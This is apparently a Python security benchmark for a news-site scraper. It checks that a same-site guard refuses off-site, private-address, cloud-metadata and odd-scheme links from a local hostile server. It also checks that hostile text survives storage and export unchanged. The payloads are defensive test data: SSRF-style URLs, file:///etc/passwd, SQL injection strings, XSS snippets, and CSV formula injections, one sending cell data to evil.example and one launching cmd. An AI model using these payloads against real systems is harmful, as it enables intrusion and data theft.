"""Issue 9, security: only the configured host is fetched, and page text is stored as data.

Refusals: a hostile site (aiohttp on 127.0.0.1) serves a page linking to other hosts and ports,
private and link-local addresses, `javascript:`/`data:`/`mailto:`/`file:` URLs, and paths that
redirect (HTTP 302 and meta refresh) to such places. A spider that follows every link it sees (far
less careful than the project's, whose link extraction already keeps to the site) crawls it with
the project's settings, so only the same-site guard stands between it and those targets. Every
request not on the target's origin must be refused, counted under its reason and logged once per
URL. A trap (a TCP listener counting connections) stands in for every off-site target: the crawl
runs with the trap as its HTTP(S) proxy, so any request that got past the guard, whatever host it
named, lands there instead of on the network; it must see no connection at all.

Stored text: hostile strings (SQL, quotes, NUL, markup, formulas, bidi controls, ...) in every text
field of an item go through the database pipeline into SQLite and PostgreSQL and through the JSON
Lines and CSV exporters, and must come back exactly (NUL removed: no article holds one, PostgreSQL
text cannot; CSV cells a spreadsheet would evaluate as formulas escaped with an apostrophe).
Usage: python bench/reliability_security.py [--quick]; or through bench/reliability.py.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import socket
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import scrapy  # noqa: E402
from aiohttp import web  # noqa: E402
from scrapy.exporters import JsonLinesItemExporter  # noqa: E402
from sqlalchemy import select  # noqa: E402

from bench.reliability import Figure  # noqa: E402
from mayadeen.downloadermiddlewares.samesite import REFUSAL_REASONS, is_private_host  # noqa: E402
from mayadeen.feeds.exporters import JsonListsCsvItemExporter, spreadsheet_safe  # noqa: E402
from mayadeen.items import ARTICLE_FIELDS, ArticleItem, content_hash, word_count  # noqa: E402
from mayadeen.pipelines.database import DatabasePipeline, without_nul  # noqa: E402
from mayadeen.storage.schema import article_versions, articles  # noqa: E402
from mayadeen.storage.store import ARTICLE_COLUMNS  # noqa: E402
from testground.devservers import PostgresServer  # noqa: E402
from testground.projectsettings import project_crawler  # noqa: E402
from testground.replica.process import (  # noqa: E402
    PACKAGE_ROOT,
    ReplicaProcess,
    crawl_command,
    free_port,
    scrapy_env,
)

AREA = "security"

NOT_A_REQUEST = "not_a_request"  # Scrapy's Request() raises ValueError: never reaches the guard
# --- refusals -----------------------------------------------------------------------------------
# (href on the hostile page, the refusal reason expected; None: on the site, fetched). {trap} is
# the trap's port, {port} the site's. The page is fetched from 127.0.0.1:{port}.
HOSTILE_LINKS: tuple[tuple[str, str | None], ...] = (
    ("/ok", None),
    ("/redirect/same", None),  # 302 to /ok?via=redirect: on the site
    ("http://127.0.0.1:{trap}/admin", "private_address"),  # another local service
    ("http://localhost:{trap}/", "private_address"),
    ("http://[::1]:{trap}/", "private_address"),
    ("http://2130706433:{trap}/", "private_address"),  # 127.0.0.1 as one decimal number
    ("http://0x7f.1:{trap}/", "private_address"),
    ("http://169.254.169.254/latest/meta-data/", "private_address"),  # cloud metadata
    ("http://10.0.0.8/", "private_address"),
    ("http://192.168.1.1/", "private_address"),
    ("http://[::ffff:10.0.0.8]/", "private_address"),
    ("http://[0:0:0:0:0:ffff:7f00:1]:{trap}/", "private_address"),  # 127.0.0.1, IPv4-mapped
    ("http://0177.0.0.1:{trap}/", "private_address"),  # octal
    ("http://127.0.0.1.:{trap}/", "private_address"),  # trailing dot
    ("https://example.com/", "off_site"),
    ("//example.org/protocol-relative", "off_site"),
    ("http://127.0.0.1:{port}@example.com/", "off_site"),  # the site as a user name
    ("http://example.com#@127.0.0.1:{port}/", "off_site"),  # the site in the fragment
    ("HTTP://EXAMPLE.COM/", "off_site"),
    ("http://127.0.0.1.nip.io:{port}/ok", "off_site"),  # a name, not the target's address
    ("https://127.0.0.1:{port}/ok", "private_address"),  # the site's port, another scheme
    # Scrapy refuses to build a Request for a URL without "://" (but data: and about:).
    ("javascript:alert(document.cookie)", NOT_A_REQUEST),
    ("data:text/html,<script>alert(1)</script>", "scheme"),
    ("mailto:editor@example.com", NOT_A_REQUEST),
    ("file:///etc/passwd", "scheme"),
    ("ftp://127.0.0.1:{trap}/", "scheme"),
    ("/redirect/off-site", "redirect"),  # 302 to https://example.net/landing
    ("/redirect/private", "private_address"),  # 302 to the trap on 127.0.0.1
    ("/redirect/metadata", "private_address"),  # 302 to 169.254.169.254
    ("/redirect/meta-refresh", "redirect"),  # <meta http-equiv=refresh> to https://example.net/
    ("https://example.com/", "off_site"),  # the same URL again: counted again, logged once
)
REDIRECTS = {
    "/redirect/same": "/ok?via=redirect",
    "/redirect/off-site": "https://example.net/landing",
    "/redirect/private": "http://127.0.0.1:{trap}/internal",
    "/redirect/metadata": "http://169.254.169.254/latest/meta-data/iam/",
}
PAGE = "<!doctype html><html><head><title>{title}</title>{head}</head><body>{body}</body></html>"


class Trap:
    """A TCP listener on 127.0.0.1 that counts connections and closes them."""

    def __init__(self) -> None:
        self.connections = 0
        self.port = 0

    async def start(self) -> None:
        async def accept(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.connections += 1
            writer.close()

        self.server = await asyncio.start_server(accept, "127.0.0.1", 0)
        self.port = self.server.sockets[0].getsockname()[1]


def hostile_app(port: int, trap: int, hits: Counter[str]) -> web.Application:
    def fill(text: str) -> str:
        return text.replace("{trap}", str(trap)).replace("{port}", str(port))

    async def hostile(request: web.Request) -> web.Response:
        hits[request.path_qs] += 1
        links = "".join(f'<a href="{fill(href)}">link</a>\n' for href, _ in HOSTILE_LINKS)
        html = PAGE.format(title="Hostile links", head="", body=links)
        return web.Response(text=html, content_type="text/html")

    async def ok(request: web.Request) -> web.Response:
        hits[request.path_qs] += 1
        return web.Response(text=PAGE.format(title="ok", head="", body="<p>ok</p>"),
                            content_type="text/html")  # fmt: skip

    async def redirect(request: web.Request) -> web.StreamResponse:
        hits[request.path_qs] += 1
        if request.path == "/redirect/meta-refresh":
            head = '<meta http-equiv="refresh" content="0; url=https://example.net/">'
            return web.Response(text=PAGE.format(title="moved", head=head, body=""),
                                content_type="text/html")  # fmt: skip
        raise web.HTTPFound(fill(REDIRECTS[request.path]))

    app = web.Application()
    app.router.add_get("/hostile", hostile)
    app.router.add_get("/ok", ok)
    app.router.add_get("/redirect/{name}", redirect)
    return app


@dataclass
class HostileSite:
    base_url: str
    trap: Trap
    hits: Counter[str]


@contextmanager
def hostile_site() -> Iterator[HostileSite]:
    """The hostile site and the trap, served from a thread of this process."""
    loop = asyncio.new_event_loop()
    trap, hits, port = Trap(), Counter(), free_port()
    ready = threading.Event()
    runner: list[web.AppRunner] = []

    async def start() -> None:
        await trap.start()
        app_runner = web.AppRunner(hostile_app(port, trap.port, hits), access_log=None)
        await app_runner.setup()
        await web.TCPSite(app_runner, "127.0.0.1", port).start()
        runner.append(app_runner)
        ready.set()

    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    asyncio.run_coroutine_threadsafe(start(), loop).result(30)
    ready.wait(30)
    try:
        yield HostileSite(f"http://127.0.0.1:{port}", trap, hits)
    finally:

        async def stop() -> None:
            await runner[0].cleanup()
            trap.server.close()
            await trap.server.wait_closed()

        asyncio.run_coroutine_threadsafe(stop(), loop).result(30)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()


class FollowEverythingSpider(scrapy.Spider):
    """Requests every href of the hostile page as it is: no filtering of its own."""

    name = "follow_everything"

    async def start(self) -> Any:
        yield scrapy.Request(self.settings["MAYADEEN_BASE_URL"] + "/hostile")

    def parse(self, response: Any) -> Iterator[scrapy.Request]:
        for href in response.css("a::attr(href)").getall():
            url = href if ":" in href.split("/", 1)[0] else response.urljoin(href)
            try:
                request = scrapy.Request(url, callback=self.leaf, dont_filter=True)
            except ValueError:
                self.crawler.stats.inc_value(f"hostile/{NOT_A_REQUEST}")
                continue
            yield request

    def leaf(self, response: Any) -> None:
        self.crawler.stats.inc_value("hostile/fetched")


@dataclass
class RefusalRun:
    stats: dict[str, Any]
    log: str
    trap_connections: int
    hits: Counter[str]
    returncode: int

    def refused(self, reason: str) -> int:
        if reason == NOT_A_REQUEST:
            return int(self.stats.get(f"hostile/{NOT_A_REQUEST}", 0))
        return int(self.stats.get(f"mayadeen/refused/{reason}", 0))

    def logged_once(self) -> bool:
        """Each refused URL logged once, however often it was refused."""
        lines = [line for line in self.log.splitlines() if "request refused (" in line]
        urls = Counter(line.split("): ", 1)[1].split(" (redirected from")[0] for line in lines)
        return bool(urls) and max(urls.values()) == 1


def expected_refusals() -> Counter[str]:
    return Counter(reason for _, reason in HOSTILE_LINKS if reason)


def crawl_hostile(workdir: Path) -> RefusalRun:
    """Crawl the hostile site with FollowEverythingSpider in a child process, behind the trap."""
    workdir.mkdir(parents=True, exist_ok=True)
    with hostile_site() as site:
        trap = f"http://127.0.0.1:{site.trap.port}"
        env = {**scrapy_env(), "http_proxy": trap, "https_proxy": trap,
               "no_proxy": "127.0.0.1,localhost"}  # fmt: skip
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "ALL_PROXY", "all_proxy"):
            env.pop(name, None)
        stats_path = workdir / "stats.json"
        command = [sys.executable, str(Path(__file__).resolve()), "crawl-hostile", site.base_url,
                   str(workdir)]  # fmt: skip
        done = subprocess.run(command, cwd=PACKAGE_ROOT, env=env, capture_output=True,
                              text=True, timeout=300, check=False)  # fmt: skip
        stats = json.loads(stats_path.read_text()) if stats_path.exists() else {}
        log_path = workdir / "crawl.log"
        log = log_path.read_text(errors="replace") if log_path.exists() else done.stderr
        return RefusalRun(stats, log, site.trap.connections, Counter(site.hits), done.returncode)


def _crawl_hostile_main(base_url: str, workdir: str) -> None:
    """The child process of crawl_hostile: the project's settings, aimed at the hostile site."""
    from scrapy.crawler import CrawlerProcess
    from scrapy.utils.project import get_project_settings

    settings = get_project_settings()
    settings.setdict(
        {
            "MAYADEEN_BASE_URL": base_url,
            "MAYADEEN_DATABASE_URL": f"sqlite:///{workdir}/db.sqlite3",
            "MAYADEEN_STATS_FILE": f"{workdir}/stats.json",
            "MAYADEEN_REPORTS_DIR": f"{workdir}/reports",
            "MAYADEEN_WARC_DIR": f"{workdir}/warc",
            "LOG_FILE": f"{workdir}/crawl.log",
            "LOG_LEVEL": "INFO",
            "FEEDS": {},
            "ROBOTSTXT_OBEY": False,
            "DOWNLOAD_DELAY": 0,
            "AUTOTHROTTLE_ENABLED": False,
            "DOWNLOAD_TIMEOUT": 10,
            "RETRY_ENABLED": False,
            "TELNETCONSOLE_ENABLED": False,
            "MAYADEEN_BROWSER_ENABLED": False,
            "SPIDERMON_ENABLED": False,
        },
        priority="cmdline",
    )
    process = CrawlerProcess(settings)
    process.crawl(FollowEverythingSpider)
    process.start()


# --- hostile text -------------------------------------------------------------------------------
HOSTILE_STRINGS: tuple[str, ...] = (
    "'; DROP TABLE articles; --",
    'Robert"); DELETE FROM tags WHERE ("1"="1',
    "' OR '1'='1' /*",
    ":title %(title)s %s $1 ? {0} \\N",
    "back\\slash \\' \\\" \\x00 \\u0000",
    '<script>alert("stored")</script>',
    "<img src=x onerror=alert(1)><!-- --><![CDATA[ ]]>",
    "NUL\x00inside and at the end\x00",
    '=HYPERLINK("http://evil.example/?"&A1,"Read")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@import",
    "\tTab first",
    "line one\r\nline two\rthree\n\nfour",
    "\u202eRTL override\u202c \u200bzero width\u200d \ufeffBOM",
    "العربية: الميادين  \U0001f4f0 emoji \u00e9\u0301 combining",
    "\x1b[31mANSI\x1b[0m \x07 bell \x7f delete",
    '{"json": ["in", "text"], "n": 1}',
    "x" * 20_000,
)


def hostile_item(n: int, text: str) -> ArticleItem:
    """A valid article whose every text field carries `text`."""
    body = f"{text}\n\nSecond paragraph {n}."
    fields: dict[str, Any] = {
        "url": f"https://english.almayadeen.net/news/politics/hostile-{n}",
        "post_id": str(900000 + n),
        "title": f"{text} {n}",
        "summary": text,
        "authors": [text, "Al Mayadeen Net"],
        "source": text,
        "published_at": "2025-06-01T10:00:00+03:00",
        "updated_at": None,
        "section": "Politics",
        "content_type": "news",
        "region": "Asia",
        "coverage": None,
        "tags": [text[:200], f"tag {n}"],
        "image_url": "https://english.almayadeen.net/media/image/2025/6/1/a.jpg?v=1&width=1000",
        "image_caption": text,
        "body": body,
        "word_count": word_count(body),
        "read_time_minutes": 2,
        "shares": 0,
        "related_urls": [],
        "video_url": None,
        "images": [{"url": "https://english.almayadeen.net/media/image/x.jpg", "caption": text}],
        "language": "en",
        "scraped_at": "2026-11-25T10:00:00+00:00",
    }
    fields["content_hash"] = content_hash(fields["title"], fields["summary"], fields["body"])
    return ArticleItem(**fields)


class _EngineStub:
    async def close_spider_async(self, *, reason: str) -> None:
        raise AssertionError(f"the pipeline stopped the crawl: {reason}")


def store_through_pipeline(database: str, items: list[ArticleItem]) -> dict[str, Any]:
    """Items through DatabasePipeline (as in a crawl: written, exported, committed); the final
    stats."""
    crawler = project_crawler(settings_dict={"MAYADEEN_DATABASE_URL": database,
                                         "MAYADEEN_DB_RETRY_DELAY": 0})  # fmt: skip
    crawler.engine = _EngineStub()
    crawler.stats.open_spider()
    pipeline = DatabasePipeline.from_crawler(crawler)
    pipeline.open_spider()

    async def crawl() -> None:
        for item in items:
            await pipeline.item_exported(await pipeline.process_item(item))
        await pipeline.close_spider()

    asyncio.run(crawl())
    return crawler.stats.get_stats()


def stored_rows(database: str) -> dict[str, dict[str, Any]]:
    """post id -> the stored article columns and its stored version item."""
    from sqlalchemy import create_engine

    engine = create_engine(database)
    try:
        with engine.connect() as conn:
            rows = {r["id"]: dict(r) for r in conn.execute(select(articles)).mappings()}
            for article_id, item in conn.execute(
                select(article_versions.c.article_id, article_versions.c.item)
            ):
                rows[article_id]["_version_item"] = item
    finally:
        engine.dispose()
    return {row["post_id"]: row for row in rows.values()}


def exported(items: list[ArticleItem]) -> tuple[list[dict], list[dict]]:
    """The items through the JSON Lines and CSV exporters of the feeds, read back."""
    jsonl, table = io.BytesIO(), io.BytesIO()
    exporters = (
        JsonLinesItemExporter(jsonl, encoding="utf8", fields_to_export=list(ARTICLE_FIELDS)),
        JsonListsCsvItemExporter(table, encoding="utf8", fields_to_export=list(ARTICLE_FIELDS)),
    )
    for exporter in exporters:
        exporter.start_exporting()
        for item in items:
            exporter.export_item(item)
        exporter.finish_exporting()
    lines = [json.loads(line) for line in jsonl.getvalue().decode("utf-8").splitlines()]
    rows = list(csv.DictReader(io.StringIO(table.getvalue().decode("utf-8"), newline="")))
    return lines, rows


@dataclass
class TextCheck:
    database: str  # backend name
    strings: int
    exact: int  # stored rows equal to the item (NUL removed) in every column and version
    feed_exact: int  # JSON Lines lines equal to the stored item
    csv_exact: int  # CSV cells equal to the item's text, formulas escaped
    rejected: int
    problems: list[str]


def check_hostile_text(database: str, backend: str) -> TextCheck:
    items = [hostile_item(n, text) for n, text in enumerate(HOSTILE_STRINGS)]
    originals = [dict(item) for item in items]
    stats = store_through_pipeline(database, items)
    rows = stored_rows(database)
    lines, table = exported(items)  # what the feeds get: the items as the pipeline left them
    problems, exact, feed_exact, csv_exact = [], 0, 0, 0
    for original, line, cells in zip(originals, lines, table, strict=True):
        expected = {k: without_nul(v) for k, v in original.items()}
        expected["content_hash"] = content_hash(
            expected["title"], expected["summary"], expected["body"]
        )
        row = rows.get(original["post_id"])
        if (
            row is not None
            and all(row[c] == expected[c] for c in ARTICLE_COLUMNS)
            and (row["_version_item"] == expected)
        ):
            exact += 1
        else:
            problems.append(f"{backend}: stored row differs for {original['title'][:40]!r}")
        if line == expected:
            feed_exact += 1
        else:
            problems.append(f"{backend}: feed line differs for {original['title'][:40]!r}")
        csv_expected = {
            k: json.dumps(v, ensure_ascii=False) if isinstance(v, list | dict)
            else spreadsheet_safe(v) if isinstance(v, str) else "" if v is None else str(v)
            for k, v in expected.items()
        }  # fmt: skip
        if cells == csv_expected:
            csv_exact += 1
        else:
            problems.append(f"{backend}: CSV row differs for {original['title'][:40]!r}")
    return TextCheck(backend, len(items), exact, feed_exact, csv_exact,
                     int(stats.get("mayadeen/db/rejected", 0)), problems)  # fmt: skip


# --- figures ------------------------------------------------------------------------------------
def private_name() -> tuple[str, str] | None:
    """This machine's host name and its address when the name resolves to a private address (it
    does in the project's sandboxes: /etc/hosts maps it to 127.0.0.1); else None."""
    name = socket.gethostname()
    try:
        address = socket.gethostbyname(name)
    except OSError:
        return None
    if is_private_host(name) or not is_private_host(address):
        return None
    return name, address


@dataclass(frozen=True)
class ResolutionRun:
    stats: dict[str, Any]
    stderr: str
    replica_pages: int  # pages the replica on that private address served


def crawl_private_name(workdir: Path, name: str) -> ResolutionRun:
    """A crawl whose target is a name resolving to the replica's private address: the resolver
    (mayadeen/resolver.py) must refuse it before any connection."""
    workdir.mkdir(parents=True, exist_ok=True)
    with ReplicaProcess(articles=5, log_path=workdir / "replica.log") as replica:
        port = replica.base_url.rsplit(":", 1)[1]
        stats_file = workdir / "stats.json"
        command = crawl_command(
            f"http://{name}:{port}", MAYADEEN_STATS_FILE=str(stats_file), FEEDS="{}",
            MAYADEEN_DATABASE_URL=f"sqlite:///{workdir / 'db.sqlite3'}",
            MAYADEEN_REPORTS_DIR=str(workdir), MAYADEEN_WARC_DIR=str(workdir / "warc"),
            LOG_LEVEL="INFO",
        )  # fmt: skip
        done = subprocess.run(command, cwd=PACKAGE_ROOT, env=scrapy_env(), capture_output=True,
                              text=True, timeout=300, check=False)  # fmt: skip
        served = json.loads(replica.get("/__replica__/stats"))["requests"]
    stats = json.loads(stats_file.read_text("utf-8"))
    return ResolutionRun(stats, done.stderr, sum(n for k, n in served.items() if k != "stats"))


def measure(workdir: Path, quick: bool) -> list[Figure]:
    figures: list[Figure] = []
    runs = 1 if quick else 3  # the refusal crawl is deterministic; repeated to show it stays so
    expected = expected_refusals()
    counted = Counter[str]()
    trap = fetched = 0
    logged_once = True
    for n in range(runs):
        run = crawl_hostile(workdir / f"hostile-{n}")
        for reason in (*REFUSAL_REASONS, NOT_A_REQUEST):
            counted[reason] += run.refused(reason)
        trap += run.trap_connections
        fetched += int(run.stats.get("hostile/fetched", 0))
        logged_once = logged_once and run.logged_once()
    for reason in (*REFUSAL_REASONS, NOT_A_REQUEST):
        want, got = expected[reason] * runs, counted[reason]
        check = (
            "javascript:/mailto: links Scrapy cannot make a request of"
            if reason == NOT_A_REQUEST
            else f"refused and counted by the guard: {reason.replace('_', ' ')}"
        )
        figures.append(Figure(AREA, check, f"{got}/{want}", "all", got == want))
    on_site = sum(1 for _, reason in HOSTILE_LINKS if reason is None) * runs
    figures.append(Figure(AREA, "links on the site still fetched (one through a redirect)",
                          f"{fetched}/{on_site}", "all", fetched == on_site))  # fmt: skip
    figures.append(Figure(AREA, "connections reaching anything but the site (trap)", str(trap),
                          "0", trap == 0))  # fmt: skip
    figures.append(Figure(AREA, "each refused URL logged once", "yes" if logged_once else "no",
                          "yes", logged_once))  # fmt: skip
    found = private_name()
    if found is None:
        figures.append(Figure(AREA, "target name resolving to a private address refused",
                              "not measured: no host name resolves privately here", "measured",
                              False))  # fmt: skip
    else:
        run = crawl_private_name(workdir / "private-name", found[0])
        refused = run.stats.get("mayadeen/refused/private_address", 0)
        asked = run.stats.get("downloader/request_count", 0)
        held = refused == asked > 0 and not run.stats.get("retry/count")
        figures.append(Figure(AREA, "target name resolving to a private address: requests "
                              "refused after DNS", f"{refused}/{asked}", "all, none retried",
                              held))  # fmt: skip
        figures.append(Figure(AREA, "pages the private address served to that crawl",
                              str(run.replica_pages), "0", run.replica_pages == 0))  # fmt: skip

    checks = [check_hostile_text(f"sqlite:///{workdir / 'text.sqlite3'}", "SQLite")]
    with PostgresServer() as server:
        checks.append(check_hostile_text(server.url, "PostgreSQL"))
    for check in checks:
        for problem in check.problems:
            print(f"[security] {problem}", file=sys.stderr)
        figures.append(Figure(AREA, f"hostile strings stored exactly, {check.database}",
                              f"{check.exact}/{check.strings}", "all",
                              check.exact == check.strings))  # fmt: skip
    sqlite = checks[0]
    figures.append(Figure(AREA, "hostile strings exported exactly, JSON Lines",
                          f"{sqlite.feed_exact}/{sqlite.strings}", "all",
                          sqlite.feed_exact == sqlite.strings))  # fmt: skip
    figures.append(Figure(AREA, "hostile strings in CSV, formula cells escaped",
                          f"{sqlite.csv_exact}/{sqlite.strings}", "all",
                          sqlite.csv_exact == sqlite.strings))  # fmt: skip
    return figures


def main() -> int:
    import tempfile

    if sys.argv[1:2] == ["crawl-hostile"]:
        _crawl_hostile_main(sys.argv[2], sys.argv[3])
        return 0
    found = measure(Path(tempfile.mkdtemp(prefix="mayadeen-security-")), "--quick" in sys.argv)
    for f in found:
        print(f"{'ok ' if f.ok else 'BAD'} {f.check}: {f.measured} (expected {f.expected})")
    return 0 if all(f.ok for f in found) else 1


if __name__ == "__main__":
    sys.exit(main())
